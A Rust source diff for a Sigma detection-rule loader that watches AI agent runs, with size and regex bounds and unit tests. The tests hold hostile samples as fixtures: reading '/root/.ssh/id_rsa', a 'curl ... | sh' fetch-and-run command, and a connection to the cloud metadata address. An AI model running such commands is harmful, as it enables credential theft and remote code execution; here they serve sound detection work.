@@ -1,0 +1,931 @@
+//! Sigma rules: read, checked and bounded before `sigma-rust` parses them.
+//!
+//! Rule files are operator input and events are attacker-controlled (argv,
+//! exe paths), so what a rule may cost is bounded here: the file's size,
+//! the rules per set, each regex's length and compiled size (the `regex`
+//! crate matches in linear time; its compiled size is capped far below its
+//! default), and the value strings. What `sigma-rust` would silently
+//! ignore or misread is refused instead: another logsource product, an
+//! unknown category, several documents in one file.
+
+use std::{
+    fmt,
+    path::{Path, PathBuf},
+    sync::Arc,
+};
+
+use serde_json::Value;
+use serde_norway::Value as Yaml;
+
+pub use super::correlation::{Correlation, Correlator};
+use crate::event::Kind;
+
+/// The logsource product every rule names.
+pub const PRODUCT: &str = "agent-sensor";
+/// A rule file's size, at most.
+pub const MAX_FILE_BYTES: u64 = 256 * 1024;
+/// Rules in one set, at most.
+pub const MAX_RULES: usize = 1024;
+/// A `|re` pattern's length, at most (characters).
+pub const MAX_REGEX_LEN: usize = 1024;
+/// A `|re` pattern's compiled size, at most (the regex crate's size limit).
+pub const REGEX_SIZE_LIMIT: usize = 256 * 1024;
+/// Any value string in a detection, at most (bytes).
+pub const MAX_VALUE_LEN: usize = 4096;
+/// Arrays in an event longer than this are cut before matching (argv of
+/// a hostile process): the rest is not looked at.
+pub const MAX_ARRAY_ITEMS: usize = 256;
+
+/// The logsource categories: one per event kind (its name with `_` for
+/// `.`), and the Sigma names of the two kinds that have one.
+#[must_use]
+pub fn categories(kind: Kind) -> &'static [&'static str] {
+    match kind {
+        Kind::ProcessSpawn => &["process_spawn"],
+        Kind::ProcessExec => &["process_exec", "process_creation"],
+        Kind::ProcessExit => &["process_exit"],
+        Kind::NetworkConnect => &["network_connect", "network_connection"],
+        Kind::SensorLost => &["sensor_lost"],
+        Kind::RunStart => &["run_start"],
+        Kind::RunEnd => &["run_end"],
+        Kind::PolicyViolation => &["policy_violation"],
+        Kind::RunDegraded => &["run_degraded"],
+        Kind::ProcessTamper => &["process_tamper"],
+        Kind::SensorTamper => &["sensor_tamper"],
+        Kind::NetworkListen => &["network_listen"],
+        Kind::NetworkAccept => &["network_accept"],
+        Kind::NetworkSocket => &["network_socket"],
+        Kind::SensorGap => &["sensor_gap"],
+        Kind::SensorBlind => &["sensor_blind"],
+        Kind::TokenIssued => &["token_issued"],
+        Kind::Detection => &["detection"],
+    }
+}
+
+/// The kinds a category names.
+fn kinds_of(category: &str) -> Vec<Kind> {
+    Kind::all()
+        .filter(|k| categories(*k).contains(&category))
+        .collect()
+}
+
+/// A rule file refused, with where.
+#[derive(Debug, thiserror::Error)]
+pub enum RuleError {
+    #[error("rules {path}: cannot read")]
+    Read {
+        path: PathBuf,
+        #[source]
+        source: std::io::Error,
+    },
+    #[error("rules {path}:{line}: {message}")]
+    At {
+        path: PathBuf,
+        line: usize,
+        message: String,
+    },
+    #[error("rules {path}: more than {MAX_RULES} rules")]
+    TooMany { path: PathBuf },
+}
+
+/// What a match reports of the rule that fired (a rule or a correlation).
+#[derive(Debug, Clone)]
+pub struct RuleInfo {
+    /// The rule's `id`, or its file's name when it has none.
+    pub id: String,
+    pub title: String,
+    pub level: &'static str,
+    pub tags: Vec<String>,
+    pub file: String,
+}
+
+/// A rule as loaded: what a match reports, the kinds it applies to, and
+/// the parsed rule.
+pub struct LoadedRule {
+    pub info: RuleInfo,
+    /// Its `name` (correlations name rules by it or by `id`).
+    name: Option<String>,
+    /// Kinds it applies to (empty: every kind but `detection`).
+    kinds: Vec<Kind>,
+    /// Counted by a correlation and not reported itself (Sigma's default
+    /// unless the correlation says `generate: true`).
+    quiet: bool,
+    rule: sigma_rust::Rule,
+}
+
+impl fmt::Debug for LoadedRule {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.debug_struct("LoadedRule")
+            .field("info", &self.info)
+            .finish_non_exhaustive()
+    }
+}
+
+/// One file's rule.
+#[derive(Debug)]
+pub enum Loaded {
+    Rule(Box<LoadedRule>),
+    Correlation(Box<Correlation>),
+}
+
+/// The rules in force.
+#[derive(Debug, Default)]
+pub struct RuleSet {
+    rules: Vec<LoadedRule>,
+    /// Per kind (by [`Kind::index`]), the rules that apply.
+    by_kind: Vec<Vec<usize>>,
+    correlations: Vec<Correlation>,
+    /// Per rule (by index), the correlations that count it.
+    counted_by: Vec<Vec<usize>>,
+}
+
+impl RuleSet {
+    /// Reads every path: a file, or a directory whose `*.yml`/`*.yaml`
+    /// files are read in name order (not recursively).
+    pub fn load(paths: &[PathBuf]) -> Result<Self, RuleError> {
+        let mut loaded = Vec::new();
+        for path in paths {
+            let meta = std::fs::metadata(path).map_err(|source| RuleError::Read {
+                path: path.clone(),
+                source,
+            })?;
+            let files = if meta.is_dir() {
+                let mut files: Vec<PathBuf> = std::fs::read_dir(path)
+                    .map_err(|source| RuleError::Read {
+                        path: path.clone(),
+                        source,
+                    })?
+                    .filter_map(Result::ok)
+                    .map(|e| e.path())
+                    .filter(|p| {
+                        p.extension().is_some_and(|e| e == "yml" || e == "yaml") && p.is_file()
+                    })
+                    .collect();
+                files.sort();
+                files
+            } else {
+                vec![path.clone()]
+            };
+            for file in files {
+                loaded.push(load_file(&file)?);
+                if loaded.len() > MAX_RULES {
+                    return Err(RuleError::TooMany { path: path.clone() });
+                }
+            }
+        }
+        let mut rules = Vec::new();
+        let mut correlations = Vec::new();
+        for l in loaded {
+            match l {
+                Loaded::Rule(r) => rules.push(*r),
+                Loaded::Correlation(c) => correlations.push(*c),
+            }
+        }
+        Self::with_correlations(rules, correlations)
+    }
+
+    /// Rules and correlations; every rule a correlation names must be there.
+    pub fn with_correlations(
+        mut rules: Vec<LoadedRule>,
+        correlations: Vec<Correlation>,
+    ) -> Result<Self, RuleError> {
+        let mut counted_by = vec![Vec::new(); rules.len()];
+        for (ci, c) in correlations.iter().enumerate() {
+            for r in &c.refs {
+                let found: Vec<usize> = rules
+                    .iter()
+                    .enumerate()
+                    .filter(|(_, x)| x.info.id == *r || x.name.as_deref() == Some(r.as_str()))
+                    .map(|(i, _)| i)
+                    .collect();
+                if found.is_empty() {
+                    return Err(RuleError::At {
+                        path: PathBuf::from(&c.info.file),
+                        line: c.refs_line.max(1),
+                        message: format!("correlation.rules: no rule named or with id {r:?}"),
+                    });
+                }
+                for i in found {
+                    if let Some(list) = counted_by.get_mut(i) {
+                        list.push(ci);
+                    }
+                    if !c.generate
+                        && let Some(rule) = rules.get_mut(i)
+                    {
+                        rule.quiet = true;
+                    }
+                }
+            }
+        }
+        let mut set = Self::of(rules);
+        set.correlations = correlations;
+        set.counted_by = counted_by;
+        Ok(set)
+    }
+
+    #[must_use]
+    pub fn of(rules: Vec<LoadedRule>) -> Self {
+        let mut by_kind = vec![Vec::new(); Kind::COUNT];
+        for (i, rule) in rules.iter().enumerate() {
+            for kind in Kind::all() {
+                let applies = if rule.kinds.is_empty() {
+                    kind != Kind::Detection
+                } else {
+                    rule.kinds.contains(&kind)
+                };
+                if applies && let Some(list) = by_kind.get_mut(kind.index()) {
+                    list.push(i);
+                }
+            }
+        }
+        let counted_by = vec![Vec::new(); rules.len()];
+        Self {
+            rules,
+            by_kind,
+            correlations: Vec::new(),
+            counted_by,
+        }
+    }
+
+    #[must_use]
+    pub fn correlations(&self) -> &[Correlation] {
+        &self.correlations
+    }
+
+    /// What fires on one event, in order: the rules it matches (but those
+    /// only a correlation counts), then the correlations it completes.
+    /// Correlation windows use the event's own `time`.
+    pub fn evaluate<'s>(
+        &'s self,
+        state: &mut Correlator,
+        kind: Kind,
+        event: &Value,
+    ) -> Vec<&'s RuleInfo> {
+        let hits = self.matching(kind, event);
+        let mut out: Vec<&RuleInfo> = hits
+            .iter()
+            .filter_map(|&i| self.rules.get(i))
+            .filter(|r| !r.quiet)
+            .map(|r| &r.info)
+            .collect();
+        if self.correlations.is_empty() || hits.is_empty() {
+            return out;
+        }
+        let time = event["time"]
+            .as_str()
+            .and_then(|t| humantime::parse_rfc3339(t).ok())
+            .unwrap_or_else(std::time::SystemTime::now);
+        let mut fed = Vec::new();
+        for &i in &hits {
+            for &ci in self.counted_by.get(i).map_or(&[][..], Vec::as_slice) {
+                // One event counts once per correlation.
+                if fed.contains(&ci) {
+                    continue;
+                }
+                fed.push(ci);
+                if let Some(c) = self.correlations.get(ci)
+                    && state.feed(ci, c, event, time)
+                {
+                    out.push(&c.info);
+                }
+            }
+        }
+        out
+    }
+
+    #[must_use]
+    pub fn len(&self) -> usize {
+        self.rules.len()
+    }
+
+    #[must_use]
+    pub fn is_empty(&self) -> bool {
+        self.rules.is_empty()
+    }
+
+    #[must_use]
+    pub fn rules(&self) -> &[LoadedRule] {
+        &self.rules
+    }
+
+    /// The rules that match an event of `kind` whose JSON form is `event`
+    /// (the same JSON the outputs write and the store keeps), correlations
+    /// aside.
+    #[must_use]
+    pub fn matches(&self, kind: Kind, event: &Value) -> Vec<&LoadedRule> {
+        self.matching(kind, event)
+            .into_iter()
+            .filter_map(|i| self.rules.get(i))
+            .collect()
+    }
+
+    fn matching(&self, kind: Kind, event: &Value) -> Vec<usize> {
+        let Some(candidates) = self.by_kind.get(kind.index()) else {
+            return Vec::new();
+        };
+        if candidates.is_empty() {
+            return Vec::new();
+        }
+        let Ok(sigma) = sigma_rust::Event::try_from(flatten(event)) else {
+            return Vec::new();
+        };
+        candidates
+            .iter()
+            .copied()
+            .filter(|&i| self.rules.get(i).is_some_and(|r| r.rule.is_match(&sigma)))
+            .collect()
+    }
+}
+
+/// The event as the rules see it: arrays of plain values (argv, scopes,
+/// tags) become one string, their items joined by a space (sigma-rust
+/// matches no field against an array), cut at [`MAX_ARRAY_ITEMS`]; other
+/// arrays are left out.
+fn flatten(value: &Value) -> Value {
+    match value {
+        Value::Object(map) => Value::Object(
+            map.iter()
+                .filter_map(|(k, v)| match v {
+                    Value::Array(items) => joined(items).map(|s| (k.clone(), Value::String(s))),
+                    other => Some((k.clone(), flatten(other))),
+                })
+                .collect(),
+        ),
+        other => other.clone(),
+    }
+}
+
+fn joined(items: &[Value]) -> Option<String> {
+    let mut out = String::new();
+    for (i, item) in items.iter().take(MAX_ARRAY_ITEMS).enumerate() {
+        if i > 0 {
+            out.push(' ');
+        }
+        match item {
+            Value::String(s) => out.push_str(s),
+            Value::Number(n) => out.push_str(&n.to_string()),
+            Value::Bool(b) => out.push_str(if *b { "true" } else { "false" }),
+            _ => return None,
+        }
+    }
+    Some(out)
+}
+
+/// Reads and checks one rule file.
+pub fn load_file(path: &Path) -> Result<Loaded, RuleError> {
+    let read = |source| RuleError::Read {
+        path: path.to_owned(),
+        source,
+    };
+    let meta = std::fs::metadata(path).map_err(read)?;
+    if meta.len() > MAX_FILE_BYTES {
+        return Err(RuleError::At {
+            path: path.to_owned(),
+            line: 1,
+            message: format!("larger than {MAX_FILE_BYTES} bytes"),
+        });
+    }
+    let text = std::fs::read_to_string(path).map_err(read)?;
+    parse_any(&text, path)
+}
+
+/// A rule, or a correlation rule.
+pub fn parse_any(text: &str, path: &Path) -> Result<Loaded, RuleError> {
+    let is_correlation = serde_norway::from_str::<Yaml>(text)
+        .ok()
+        .is_some_and(|y| y.get("correlation").is_some());
+    if !is_correlation {
+        return parse(text, path).map(|r| Loaded::Rule(Box::new(r)));
+    }
+    check_documents(text, path)?;
+    let line_of = |key: &str| -> usize {
+        text.lines()
+            .position(|l| l.trim_start().starts_with(key))
+            .map_or(1, |i| i + 1)
+    };
+    let yaml: Yaml = serde_norway::from_str(text).map_err(|e| RuleError::At {
+        path: path.to_owned(),
+        line: e.location().map_or(1, |l| l.line()),
+        message: format!("not YAML: {e}"),
+    })?;
+    let Some(top) = yaml.as_mapping() else {
+        return Err(RuleError::At {
+            path: path.to_owned(),
+            line: 1,
+            message: "a rule is a mapping".to_owned(),
+        });
+    };
+    let info = info_of(top, path, &line_of)?;
+    super::correlation::parse(top, info, path, &line_of).map(|c| Loaded::Correlation(Box::new(c)))
+}
+
+/// Several documents: sigma-rust reads one; the rest would be ignored.
+fn check_documents(text: &str, path: &Path) -> Result<(), RuleError> {
+    let documents = text
+        .lines()
+        .enumerate()
+        .filter(|(_, l)| l.trim_end() == "---")
+        .map(|(i, _)| i + 1)
+        .collect::<Vec<_>>();
+    if let Some(&line) = documents.iter().find(|&&l| {
+        text.lines()
+            .take(l - 1)
+            .any(|x| !x.trim().is_empty() && !x.trim_start().starts_with('#'))
+    }) {
+        return Err(RuleError::At {
+            path: path.to_owned(),
+            line,
+            message: "several YAML documents in one file: one rule per file".to_owned(),
+        });
+    }
+    Ok(())
+}
+
+/// The id, title, level and tags of a rule's YAML.
+fn info_of(
+    top: &serde_norway::Mapping,
+    path: &Path,
+    line_of: &dyn Fn(&str) -> usize,
+) -> Result<RuleInfo, RuleError> {
+    let at = |key: &str, message: String| RuleError::At {
+        path: path.to_owned(),
+        line: line_of(key).max(1),
+        message,
+    };
+    let title = top
+        .get("title")
+        .and_then(Yaml::as_str)
+        .ok_or_else(|| at("title:", "a rule has a title".to_owned()))?
+        .to_owned();
+    let level = match top.get("level").and_then(Yaml::as_str) {
+        None | Some("medium") => "medium",
+        Some("informational") => "informational",
+        Some("low") => "low",
+        Some("high") => "high",
+        Some("critical") => "critical",
+        Some(other) => return Err(at("level:", format!("unknown level {other:?}"))),
+    };
+    let id = top
+        .get("id")
+        .and_then(Yaml::as_str)
+        .map(str::to_owned)
+        .unwrap_or_else(|| {
+            path.file_stem()
+                .map(|s| s.to_string_lossy().into_owned())
+                .unwrap_or_default()
+        });
+    let tags = top
+        .get("tags")
+        .and_then(Yaml::as_sequence)
+        .map(|t| {
+            t.iter()
+                .filter_map(Yaml::as_str)
+                .map(str::to_owned)
+                .collect()
+        })
+        .unwrap_or_default();
+    Ok(RuleInfo {
+        id,
+        title,
+        level,
+        tags,
+        file: path.to_string_lossy().into_owned(),
+    })
+}
+
+/// Parses and checks one rule's text (`path` names it in errors).
+pub fn parse(text: &str, path: &Path) -> Result<LoadedRule, RuleError> {
+    let at = |line: usize, message: String| RuleError::At {
+        path: path.to_owned(),
+        line: line.max(1),
+        message,
+    };
+    let line_of = |key: &str| -> usize {
+        text.lines()
+            .position(|l| l.trim_start().starts_with(key))
+            .map_or(1, |i| i + 1)
+    };
+    check_documents(text, path)?;
+    let yaml: Yaml = serde_norway::from_str(text).map_err(|e| {
+        at(
+            e.location().map_or(1, |l| l.line()),
+            format!("not YAML: {e}"),
+        )
+    })?;
+    let Yaml::Mapping(top) = &yaml else {
+        return Err(at(1, "a rule is a mapping".to_owned()));
+    };
+    let logsource = top.get("logsource");
+    let product = logsource
+        .and_then(|l| l.get("product"))
+        .and_then(Yaml::as_str);
+    if product != Some(PRODUCT) {
+        return Err(at(
+            line_of("logsource:"),
+            format!("logsource.product must be {PRODUCT:?}"),
+        ));
+    }
+    let kinds = match logsource.and_then(|l| l.get("category")) {
+        None => Vec::new(),
+        Some(Yaml::String(c)) => {
+            let kinds = kinds_of(c);
+            if kinds.is_empty() {
+                return Err(at(
+                    line_of("category:"),
+                    format!("unknown logsource.category {c:?} (see docs/detection.md)"),
+                ));
+            }
+            kinds
+        }
+        Some(_) => {
+            return Err(at(
+                line_of("category:"),
+                "logsource.category is a string".to_owned(),
+            ));
+        }
+    };
+    if let Some(detection) = top.get("detection") {
+        check_values(detection, None).map_err(|message| at(line_of("detection:"), message))?;
+    }
+    let rule: sigma_rust::Rule = serde_norway::from_str(text).map_err(|e| {
+        // sigma-rust's own checks (condition, modifiers) come without a
+        // place: the detection is where they are.
+        let line = e
+            .location()
+            .map(|l| l.line())
+            .filter(|&l| l > 1)
+            .unwrap_or_else(|| line_of("detection:"));
+        at(line, format!("not a Sigma rule: {e}"))
+    })?;
+    let info = info_of(top, path, &line_of)?;
+    let name = top.get("name").and_then(Yaml::as_str).map(str::to_owned);
+    Ok(LoadedRule {
+        info,
+        name,
+        kinds,
+        quiet: false,
+        rule,
+    })
+}
+
+/// Bounds the detection's values: each string's length, and each `|re`
+/// pattern's length and compiled size.
+fn check_values(yaml: &Yaml, field: Option<&str>) -> Result<(), String> {
+    match yaml {
+        Yaml::Mapping(m) => m.iter().try_for_each(|(k, v)| {
+            let key = k.as_str();
+            check_values(v, key.or(field))
+        }),
+        Yaml::Sequence(items) => items.iter().try_for_each(|v| check_values(v, field)),
+        Yaml::String(s) => {
+            if s.len() > MAX_VALUE_LEN {
+                return Err(format!("a value longer than {MAX_VALUE_LEN} bytes"));
+            }
+            let is_re = field.is_some_and(|f| f.split('|').skip(1).any(|m| m == "re"));
+            if is_re {
+                if s.chars().count() > MAX_REGEX_LEN {
+                    return Err(format!(
+                        "{}: a regex longer than {MAX_REGEX_LEN} characters",
+                        field.unwrap_or_default()
+                    ));
+                }
+                regex::RegexBuilder::new(s)
+                    .size_limit(REGEX_SIZE_LIMIT)
+                    .dfa_size_limit(REGEX_SIZE_LIMIT)
+                    .nest_limit(64)
+                    .build()
+                    .map_err(|e| format!("{}: {e}", field.unwrap_or_default()))?;
+            }
+            Ok(())
+        }
+        Yaml::Tagged(t) => check_values(&t.value, field),
+        _ => Ok(()),
+    }
+}
+
+/// A shared, swappable rule set: the detection thread reads it per batch,
+/// a reload replaces it whole.
+#[derive(Debug, Clone, Default)]
+pub struct Rules(Arc<std::sync::RwLock<Arc<RuleSet>>>);
+
+impl Rules {
+    #[must_use]
+    pub fn new(set: RuleSet) -> Self {
+        Self(Arc::new(std::sync::RwLock::new(Arc::new(set))))
+    }
+
+    #[must_use]
+    pub fn current(&self) -> Arc<RuleSet> {
+        match self.0.read() {
+            Ok(g) => Arc::clone(&g),
+            Err(poisoned) => Arc::clone(&poisoned.into_inner()),
+        }
+    }
+
+    pub fn replace(&self, set: RuleSet) {
+        let set = Arc::new(set);
+        match self.0.write() {
+            Ok(mut g) => *g = set,
+            Err(poisoned) => *poisoned.into_inner() = set,
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use serde_json::json;
+
+    use super::*;
+
+    fn rule(text: &str) -> Result<LoadedRule, RuleError> {
+        match parse_any(text, Path::new("t.yml"))? {
+            Loaded::Rule(r) => Ok(*r),
+            Loaded::Correlation(c) => panic!("a correlation: {c:?}"),
+        }
+    }
+
+    fn correlation(text: &str) -> Correlation {
+        match parse_any(text, Path::new("c.yml")) {
+            Ok(Loaded::Correlation(c)) => *c,
+            other => panic!("{other:?}"),
+        }
+    }
+
+    const DENY: &str = "title: deny\nname: deny\nlogsource:\n  product: agent-sensor\n  category: policy_violation\ndetection:\n  s:\n    policy.verdict: deny\n  condition: s\n";
+    const CONNECT: &str = "title: conn\nid: conn\nlogsource:\n  product: agent-sensor\n  category: network_connect\ndetection:\n  s:\n    run.agent|exists: true\n  condition: s\n";
+
+    fn at(run: &str, secs: u64, extra: Value) -> Value {
+        let mut e = json!({"kind": "x", "run": {"id": run, "agent": "a"},
+                           "time": crate::event::rfc3339(std::time::UNIX_EPOCH + std::time::Duration::from_secs(1_700_000_000 + secs)).to_string(),
+                           "policy": {"verdict": "deny"}});
+        if let (Some(o), Value::Object(x)) = (e.as_object_mut(), extra) {
+            o.extend(x);
+        }
+        e
+    }
+
+    #[test]
+    fn event_count_fires_at_its_threshold_within_its_window_per_group() {
+        let c = correlation(
+            "title: many denials\nid: c1\nlevel: high\ncorrelation:\n  type: event_count\n  rules: [deny]\n  group-by: [run.id]\n  timespan: 1m\n  condition:\n    gte: 3\n",
+        );
+        let set = RuleSet::with_correlations(vec![rule(DENY).unwrap()], vec![c]).unwrap();
+        let mut st = Correlator::default();
+        let mut fire = |run: &str, t: u64| -> Vec<String> {
+            set.evaluate(&mut st, Kind::PolicyViolation, &at(run, t, json!({})))
+                .iter()
+                .map(|i| i.id.clone())
+                .collect()
+        };
+        // The base rule is only counted (Sigma's default: generate false).
+        assert!(fire("r1", 0).is_empty());
+        assert!(fire("r2", 1).is_empty());
+        assert!(fire("r1", 10).is_empty());
+        assert_eq!(fire("r1", 20), ["c1"]);
+        // Counting starts again; a window of 60 s slides.
+        assert!(fire("r1", 30).is_empty());
+        assert!(fire("r1", 40).is_empty());
+        assert!(
+            fire("r2", 100).is_empty(),
+            "r2's first is out of the window"
+        );
+        assert!(fire("r2", 110).is_empty());
+        assert_eq!(fire("r2", 120), ["c1"]);
+    }
+
+    #[test]
+    fn value_count_counts_distinct_values_and_generate_keeps_the_base_rule() {
+        let c = correlation(
+            "title: many hosts\nid: c2\ngenerate: true\ncorrelation:\n  type: value_count\n  rules: conn\n  group-by:\n    - run.id\n  timespan: 5m\n  condition:\n    gt: 2\n    field: network.dst_ip\n",
+        );
+        let set = RuleSet::with_correlations(vec![rule(CONNECT).unwrap()], vec![c]).unwrap();
+        let mut st = Correlator::default();
+        let mut fire = |ip: &str, t: u64| -> Vec<String> {
+            set.evaluate(
+                &mut st,
+                Kind::NetworkConnect,
+                &at("r", t, json!({"network": {"dst_ip": ip}})),
+            )
+            .iter()
+            .map(|i| i.id.clone())
+            .collect()
+        };
+        assert_eq!(fire("10.0.0.1", 0), ["conn"]);
+        assert_eq!(fire("10.0.0.1", 1), ["conn"]);
+        assert_eq!(fire("10.0.0.2", 2), ["conn"]);
+        assert_eq!(fire("10.0.0.3", 3), ["conn", "c2"]);
+    }
+
+    #[test]
+    fn correlations_are_checked() {
+        let unknown = correlation(
+            "title: x\ncorrelation:\n  type: event_count\n  rules: [nope]\n  timespan: 1m\n  condition: {gte: 2}\n",
+        );
+        assert!(matches!(
+            RuleSet::with_correlations(vec![rule(DENY).unwrap()], vec![unknown]),
+            Err(RuleError::At { line: 4, .. })
+        ));
+        for (text, line) in [
+            (
+                "title: x\ncorrelation:\n  type: event_count\n  rules: [a]\n  timespan: 1w\n  condition: {gte: 2}\n",
+                5,
+            ),
+            (
+                "title: x\ncorrelation:\n  type: event_count\n  rules: [a]\n  timespan: 1m\n  condition: {lt: 2}\n",
+                6,
+            ),
+            (
+                "title: x\ncorrelation:\n  type: value_count\n  rules: [a]\n  timespan: 1m\n  condition: {gte: 2}\n",
+                6,
+            ),
+            (
+                "title: x\ncorrelation:\n  type: event_count\n  rules: [a]\n  timespan: 1m\n  condition: {gte: 0}\n",
+                6,
+            ),
+        ] {
+            match parse_any(text, Path::new("c.yml")) {
+                Err(RuleError::At { line: l, .. }) => assert_eq!(l, line, "{text}"),
+                other => panic!("{text}: {other:?}"),
+            }
+        }
+    }
+
+    const SSH: &str = "title: ssh\nid: r-ssh\nlevel: high\ntags: [attack.t1552]\nlogsource:\n  product: agent-sensor\n  category: process_creation\ndetection:\n  run:\n    run.agent|exists: true\n  sel:\n    process.argv|contains: '/.ssh/id_'\n  condition: run and sel\n";
+
+    fn exec(argv: &[&str], run: bool) -> Value {
+        json!({"kind": "process.exec", "seq": 7,
+               "run": if run { json!({"id": "r1", "agent": "a", "depth": 0}) } else { Value::Null },
+               "process": {"exe": "/usr/bin/cat", "argv": argv, "key": "k"}})
+    }
+
+    #[test]
+    fn a_rule_matches_argv_items_and_the_run() {
+        let set = RuleSet::of(vec![rule(SSH).unwrap()]);
+        assert_eq!(set.rules()[0].info.level, "high");
+        assert_eq!(set.rules()[0].info.tags, ["attack.t1552"]);
+        let hit = set.matches(
+            Kind::ProcessExec,
+            &exec(&["cat", "/root/.ssh/id_rsa"], true),
+        );
+        assert_eq!(hit.len(), 1);
+        assert_eq!(hit[0].info.id, "r-ssh");
+        // Outside a run, another kind, another file: nothing.
+        assert!(
+            set.matches(
+                Kind::ProcessExec,
+                &exec(&["cat", "/root/.ssh/id_rsa"], false)
+            )
+            .is_empty()
+        );
+        assert!(
+            set.matches(
+                Kind::ProcessExit,
+                &exec(&["cat", "/root/.ssh/id_rsa"], true)
+            )
+            .is_empty()
+        );
+        assert!(
+            set.matches(Kind::ProcessExec, &exec(&["cat", "/etc/hosts"], true))
+                .is_empty()
+        );
+    }
+
+    #[test]
+    fn numbers_compare_and_a_rule_without_category_sees_every_kind_but_detections() {
+        let deep = "title: deep\nlogsource:\n  product: agent-sensor\ndetection:\n  sel:\n    run.depth|gt: 3\n  condition: sel\n";
+        let set = RuleSet::of(vec![rule(deep).unwrap()]);
+        let at =
+            |d: u32| json!({"kind": "run.start", "run": {"id": "r", "agent": "a", "depth": d}});
+        assert_eq!(set.matches(Kind::RunStart, &at(4)).len(), 1);
+        assert!(set.matches(Kind::RunStart, &at(3)).is_empty());
+        assert_eq!(set.matches(Kind::ProcessExec, &at(5)).len(), 1);
+        assert!(set.matches(Kind::Detection, &at(5)).is_empty());
+        assert_eq!(set.rules()[0].info.id, "t");
+    }
+
+    #[test]
+    fn bad_rules_are_refused_with_their_line() {
+        let cases = [
+            (
+                "title: x\nlogsource:\n  product: windows\ndetection:\n  s:\n    a: 1\n  condition: s\n",
+                2,
+                "product",
+            ),
+            (
+                "title: x\nlogsource:\n  product: agent-sensor\n  category: nope\ndetection:\n  s:\n    a: 1\n  condition: s\n",
+                4,
+                "category",
+            ),
+            (
+                "title: x\nlogsource:\n  product: agent-sensor\ndetection:\n  s:\n    a: 1\n  condition: s and t\n",
+                4,
+                "undefined",
+            ),
+            (
+                "title: x\nlogsource:\n  product: agent-sensor\ndetection:\n  s:\n    a|re: '(x'\n  condition: s\n",
+                4,
+                "unclosed",
+            ),
+            (
+                "title: x\nlogsource:\n  product: agent-sensor\ndetection:\n  s:\n    a: [1\n  condition: s\n",
+                7,
+                "YAML",
+            ),
+            (
+                "title: x\nlogsource:\n  product: agent-sensor\ncorrelation:\n  type: temporal\n",
+                5,
+                "correlation",
+            ),
+            (
+                "title: x\nlogsource:\n  product: agent-sensor\ndetection:\n  s:\n    a: 1\n  condition: s\n---\ntitle: y\n",
+                8,
+                "several",
+            ),
+            (
+                "title: x\nlevel: severe\nlogsource:\n  product: agent-sensor\ndetection:\n  s:\n    a: 1\n  condition: s\n",
+                2,
+                "level",
+            ),
+        ];
+        for (text, line, what) in cases {
+            match rule(text) {
+                Err(RuleError::At {
+                    line: l, message, ..
+                }) => {
+                    assert_eq!(l, line, "{message}");
+                    assert!(message.contains(what), "{message}");
+                }
+                other => panic!("{text}: {other:?}"),
+            }
+        }
+    }
+
+    #[test]
+    fn regexes_are_bounded() {
+        let huge = format!(
+            "title: x\nlogsource:\n  product: agent-sensor\ndetection:\n  s:\n    a|re: '{}'\n  condition: s\n",
+            "a{1000}{1000}"
+        );
+        assert!(matches!(rule(&huge), Err(RuleError::At { .. })));
+        let long = format!(
+            "title: x\nlogsource:\n  product: agent-sensor\ndetection:\n  s:\n    a|re: '{}'\n  condition: s\n",
+            "a".repeat(MAX_REGEX_LEN + 1)
+        );
+        assert!(matches!(rule(&long), Err(RuleError::At { .. })));
+    }
+
+    #[test]
+    fn hostile_events_do_not_panic() {
+        let set = RuleSet::of(vec![rule(SSH).unwrap()]);
+        let long: Vec<String> = (0..10_000).map(|i| format!("/.ssh/{i}")).collect();
+        let e = json!({"kind": "process.exec", "run": {"agent": "a"},
+                       "process": {"argv": long, "exe": [1, {"x": 2}], "key": null}});
+        let _ = set.matches(Kind::ProcessExec, &e);
+        let _ = set.matches(Kind::ProcessExec, &json!([1, 2]));
+        let _ = set.matches(Kind::ProcessExec, &json!("x"));
+    }
+
+    #[test]
+    fn the_shipped_pack_loads() {
+        let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules/agent");
+        let set = RuleSet::load(&[dir]).unwrap();
+        assert!(set.len() >= 9, "{}", set.len());
+        let metadata = json!({"kind": "network.connect", "run": {"id": "r", "agent": "a"},
+                              "network": {"dst_ip": "169.254.169.254", "dst_port": 80}});
+        let mut state = Correlator::default();
+        // (The pack's "any IP connect" rule only counts for a correlation.)
+        let hit: Vec<&str> = set
+            .evaluate(&mut state, Kind::NetworkConnect, &metadata)
+            .iter()
+            .map(|r| r.title.as_str())
+            .collect();
+        assert_eq!(hit, ["Agent run connects to a cloud metadata service"]);
+        // The 21st distinct host of a run within 5 minutes.
+        let mut last = Vec::new();
+        for i in 0..21 {
+            let e = json!({"kind": "network.connect", "run": {"id": "r2", "agent": "a"},
+                           "time": "2026-12-05T05:00:00Z",
+                           "network": {"dst_ip": format!("10.0.0.{i}"), "dst_port": 443}});
+            last = set
+                .evaluate(&mut state, Kind::NetworkConnect, &e)
+                .iter()
+                .map(|r| r.id.clone())
+                .collect();
+            if i < 20 {
+                assert!(last.is_empty(), "{i}: {last:?}");
+            }
+        }
+        assert_eq!(last, ["6b2d8f4a-1e7c-4a9b-b3d6-2c5e8a1f7d11"]);
+        let curl = json!({"kind": "process.exec", "run": {"id": "r", "agent": "a"},
+                          "process": {"exe": "/usr/bin/bash", "argv": ["sh", "-c", "curl -s http://x/i.sh | sh"]}});
+        let hit: Vec<&str> = set
+            .matches(Kind::ProcessExec, &curl)
+            .iter()
+            .map(|r| r.info.id.as_str())
+            .collect();
+        assert_eq!(hit, ["9a1e3c7b-5d2f-4e8a-b6c4-2e7f1d3a8c03"]);
+        let benign = json!({"kind": "process.exec", "run": {"id": "r", "agent": "a"},
+                            "process": {"exe": "/usr/bin/bash", "argv": ["sh", "-c", "curl -o x http://x/ && cat x"]}});
+        assert!(set.matches(Kind::ProcessExec, &benign).is_empty());
+    }
+}
